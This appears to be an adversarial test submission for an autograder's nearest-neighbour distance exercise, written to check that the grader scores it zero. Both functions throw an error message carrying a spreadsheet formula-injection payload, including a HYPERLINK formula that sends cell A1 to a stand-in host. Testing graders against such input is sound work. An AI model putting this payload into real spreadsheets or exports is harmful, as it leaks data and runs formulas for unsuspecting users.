// unit: 02_neighbors/distance
// expect: zero
// Attack 156: throws a text that a spreadsheet would run as a formula.
#include <stdexcept>

#include "exercises/02_neighbors/distance.hpp"

namespace gradbook {

double l1_distance(const arma::vec&, const arma::vec&) {
  throw std::runtime_error(
      "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"ok\")\n+1+1\n-1\n@SUM(A1:A9)\t=1,\"\"\r=2");
}

double l2_distance(const arma::vec&, const arma::vec&) {
  throw std::runtime_error(
      "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"ok\")\n+1+1\n-1\n@SUM(A1:A9)\t=1,\"\"\r=2");
}

}  // namespace gradbook
